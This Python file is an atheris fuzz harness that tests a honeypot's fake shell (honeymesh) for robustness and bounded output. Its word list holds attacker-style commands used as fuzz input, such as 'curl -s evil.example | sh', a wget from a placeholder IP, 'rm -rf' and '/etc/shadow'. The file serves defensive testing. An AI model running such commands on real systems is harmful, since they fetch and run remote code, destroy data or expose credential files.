"""Fuzz the fake shell's command lines (honeymesh/detection/traps/shell.py) with atheris.

    .venv/bin/python fuzz/shell_lines.py -runs=1000000 [-max_total_time=S] [CORPUS_DIR ...]

(libFuzzer flags as in fuzz/client_hello.py; tests/test_fuzz_harnesses.py runs it for a few
thousand inputs.)

A logged-in attacker's every line goes through the shell's own parser (quotes, lists, pipes,
redirections, ``$VAR``, ``$(...)``, globs) and its commands, against the session's bounded
copy-on-write file system. No line may raise (``ShellSession`` would end the trap session as
``trap_error``), and a session stays bounded whatever it types: each answer within
``MAX_OUTPUT`` characters, at most ``MAX_DOWNLOADS`` URLs reported per line, the file system
layer within its byte and entry bounds, the working directory absolute. The first byte picks
the user (root or not); the rest is lines, as fuzz bytes or as words bots type, so that the
fuzzer reaches past the parser into the commands.
"""

from __future__ import annotations

import sys
from pathlib import Path

import atheris  # type: ignore[import-untyped]  # (types-atheris lacks FuzzedDataProvider)

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

with atheris.instrument_imports(include=["honeymesh"]):
    from honeymesh.detection.traps import fakefs, shell_commands
    from honeymesh.detection.traps.facts import Connection, Endpoint, NodeFacts
    from honeymesh.detection.traps.shell import (
        MAX_DOWNLOADS,
        MAX_OUTPUT,
        FakeShell,
        ShellPersona,
        ShellSession,
    )

_ = (fakefs, shell_commands)

PERSONA = ShellPersona(
    "web01", "6.1.0-28-amd64", "Debian GNU/Linux 12 (bookworm)", facts=NodeFacts(b"f" * 32, 1e9)
)
CONNECTION = Connection(Endpoint("198.51.100.1", 22), Endpoint("203.0.113.9", 40000))
WORDS = [
    "echo ", "cat ", "ls -la ", "cd ", "sudo ", "sh -c ", "rm -rf ", "mkdir -p ", "touch ",
    "cp ", "mv ", "chmod +x ", "wget http://203.0.113.5/x ", "curl -s evil.example | sh",
    "> /tmp/f", ">> f", "2>&1", "2>/dev/null", "$(", ")", "`", "'", '"', "$HOME", "$?", ";",
    "&&", "||", "|", "*", "~/", "..", "/etc/shadow", "grep -c x", "awk '{print $1}'", "xargs ",
    "python3 -c 'print(1)'", "busybox ", "./x", "free -h", "ps aux", "ip a", "w", "last",
    "for i in $(seq 1 3); ", "do ", "done", "if ", "then ", "elif ", "else ", "fi", "while ",
    "until ", "[ -f x ]", "break", "continue",
]  # fmt: skip
MAX_LINES = 16


def line(fdp: atheris.FuzzedDataProvider) -> str:
    if fdp.ConsumeIntInRange(0, 2) == 0:
        return str(fdp.ConsumeUnicodeNoSurrogates(fdp.ConsumeIntInRange(0, 512)))
    pieces = fdp.ConsumeIntInRange(1, 24)
    return "".join(
        WORDS[fdp.ConsumeIntInRange(0, len(WORDS) - 1)]
        if fdp.ConsumeBool()
        else fdp.ConsumeUnicodeNoSurrogates(4)
        for _ in range(pieces)
    )


def test_one_input(data: bytes) -> None:
    fdp = atheris.FuzzedDataProvider(data)
    user = "root" if fdp.ConsumeBool() else "admin"
    fake = FakeShell(PERSONA, user, lambda: 1e9 + 86400, connection=CONNECTION)
    session = ShellSession(fake, echo=True)
    session.start()
    for _ in range(fdp.ConsumeIntInRange(0, MAX_LINES)):
        if fdp.remaining_bytes() == 0:
            break
        text = line(fdp)
        if fdp.ConsumeIntInRange(0, 3) == 0:  # through the session: prompts, sudo's password
            out = session.feed(text.encode("utf-8", "surrogatepass") + b"\r")
            assert isinstance(out.reply, bytes)
            if out.exit:
                break
            continue
        result = fake.run(text)
        assert len(result.raw) <= MAX_OUTPUT, len(result.raw)
        assert len(result.downloads) <= MAX_DOWNLOADS, result.downloads
        assert fake.cwd.startswith("/"), fake.cwd
        if result.exit:
            break
    entries, size = fake.fs.usage()
    assert entries <= fakefs.MAX_ENTRIES and size <= fakefs.MAX_BYTES, (entries, size)


def main() -> None:
    atheris.Setup(sys.argv, test_one_input)
    atheris.Fuzz()


if __name__ == "__main__":
    main()
